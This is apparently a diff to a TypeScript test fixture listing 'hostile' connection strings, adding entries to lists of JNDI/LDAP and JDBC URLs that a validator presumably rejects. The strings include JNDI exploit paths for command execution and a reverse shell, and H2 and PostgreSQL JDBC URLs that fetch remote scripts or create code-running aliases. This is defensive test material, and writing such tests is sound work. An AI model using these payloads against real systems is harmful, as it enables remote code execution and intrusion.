@@ -39,6 +39,7 @@ const pairs: readonly Pair[] = [
     hostile: [
       'ldap://h.example/Basic/Command/Base64/aWQ=',
       'ldap://198.51.100.7:1389/Deserialization/URLDNS/x.example',
+      'ldap://a@h.example//Basic/Command/x',
       'ldaps://h.example/TomcatBypass/ReverseShell/1.2.3.4/44',
     ],
   },
@@ -58,6 +59,8 @@ const pairs: readonly Pair[] = [
       'jdbc:postgresql://h/d?socketFactory=a.B&socketFactoryArg=http://e.example/x.xml',
       'jdbc:postgresql://h/d?sslfactory=a.B&sslfactoryarg=ftp://e.example/x.xml',
       'jdbc:sqlite::resource:http://e.example/x.db',
+      "jdbc:h2:mem:t;INIT= RUNSCRIPT  FROM 'http://e.example/x.sql'",
+      'jdbc:h2:mem:t;INIT=CREATE\tALIAS X AS $$ /**/ $$',
       'jdbc:modeshape:jndi:ldap://e.example/x',
     ],
   },
